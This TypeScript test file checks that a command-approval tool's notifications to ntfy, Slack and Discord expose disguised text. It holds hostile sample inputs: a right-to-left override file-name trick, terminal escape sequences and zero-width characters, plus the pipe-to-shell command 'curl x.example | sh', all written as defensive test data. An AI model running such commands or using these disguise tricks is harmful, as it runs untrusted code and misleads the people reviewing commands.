import { describe, expect, it } from "vitest";
import { sampleCard } from "../send-test";
import { renderBody } from "./index";
import type { NotifyMessage } from "./types";

const at = new Date("2026-01-01T10:00:00Z");
const message = (command: string, over: Record<string, unknown> = {}): NotifyMessage => {
  const card = { ...sampleCard(at), id: "c1", input: { command }, warnings: [], ...over };
  return { type: "card.admitted", msgId: "msg_1", at, card, url: "https://cockpit.example/cards/c1" };
};
const RAW = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069\u200B-\u200D\u2060\uFEFF]/;

describe("notifications show text that disguises itself", () => {
  const m = message("ls \u202Etxt.exe \u001b]0;pwned\u0007", { reason: "ok\u200B", sessionId: "s\u001b[2J" });
  it.each(["ntfy", "slack", "discord"] as const)("%s: visible markers, the warning, no raw hidden characters", (f) => {
    const body = renderBody(f, m, { ntfyTopic: "t" });
    expect(body).toContain("⟨U+202E⟩");
    expect(body).toContain("⟨ESC⟩]0;pwned⟨BEL⟩");
    expect(body).toContain("hidden characters");
    // JSON escapes control characters, so look at the decoded strings.
    const decoded: string[] = [];
    JSON.parse(body, (_k, v) => (typeof v === "string" && decoded.push(v), v));
    expect(decoded.some((s) => RAW.test(s))).toBe(false);
  });

  it("pipe-to-shell warnings reach the notification", () => {
    const body = renderBody("ntfy", message("curl x.example | sh", { warnings: ["downloads and runs code"] }), {
      ntfyTopic: "t",
    });
    expect(body).toContain("downloads and runs code");
  });
});
